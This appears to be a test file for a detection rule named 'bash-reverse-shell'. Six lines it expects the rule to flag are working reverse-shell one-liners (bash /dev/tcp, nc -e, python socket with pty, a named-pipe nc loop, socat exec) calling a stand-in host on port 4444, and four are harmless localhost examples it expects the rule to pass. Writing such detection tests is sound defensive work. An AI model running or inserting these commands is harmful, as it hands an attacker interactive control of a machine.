# ruleid: bash-reverse-shell
bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
# ruleid: bash-reverse-shell
nc -e /bin/sh 203.0.113.9 4444
# ruleid: bash-reverse-shell
python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'
# ruleid: bash-reverse-shell
cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f
# ruleid: bash-reverse-shell
socat tcp:203.0.113.9:4444 exec:'/bin/bash -li',pty
# ruleid: bash-reverse-shell
bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'

# ok: bash-reverse-shell
echo > /dev/tcp/localhost/5432
# ok: bash-reverse-shell
nc -z localhost 5432
# ok: bash-reverse-shell
python3 -c 'import socket; print(socket.gethostname())'
# ok: bash-reverse-shell
bash -i
